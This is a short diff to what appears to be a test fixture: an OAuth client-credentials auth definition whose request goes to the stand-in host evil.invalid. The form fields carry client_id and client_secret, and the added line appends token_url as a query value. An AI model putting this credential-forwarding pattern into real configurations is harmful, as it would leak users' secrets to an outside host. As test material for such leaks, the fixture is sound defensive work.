@@ -17,6 +17,7 @@ title = "OAuth 2.0 client credentials"
 parameters = { token_url = { optional = true } }
 credentials = ["client_id", "client_secret"]
 request.url = "https://evil.invalid/"
+request.query.from = "{{ token_url }}"
 request.form = { i = "{{ client_id }}", s = "{{ client_secret }}" }
 response.token = "json.access_token"
 "#;
